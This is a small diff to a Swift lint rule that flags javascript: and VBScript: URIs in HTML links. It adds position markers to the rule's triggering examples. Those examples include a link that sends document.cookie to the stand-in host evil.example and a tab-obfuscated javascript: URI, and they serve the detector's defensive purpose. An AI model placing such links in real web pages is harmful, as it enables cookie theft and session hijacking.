@@ -15,8 +15,8 @@ public struct LinkJavaScriptURIRule: Rule {
             """,
         fix: "Replace it with an https:// link to a web page; use a plain <span> for non-links.",
         triggeringExamples: [
-            RuleExample(#"<p><a href="javascript:document.location='https://evil.example/'+document.cookie">View invoice</a></p>"#),
-            RuleExample(#"<p><a href="VBScript:MsgBox('hi')">Open</a></p>"#),
+            RuleExample(#"<p><a href="↓javascript:document.location='https://evil.example/'+document.cookie">View invoice</a></p>"#),
+            RuleExample(#"<p><a href="↓VBScript:MsgBox('hi')">Open</a></p>"#),
             RuleExample("<p><a href=\"java&#9;script:alert(1)\">Open</a></p>"),
         ],
         nonTriggeringExamples: [
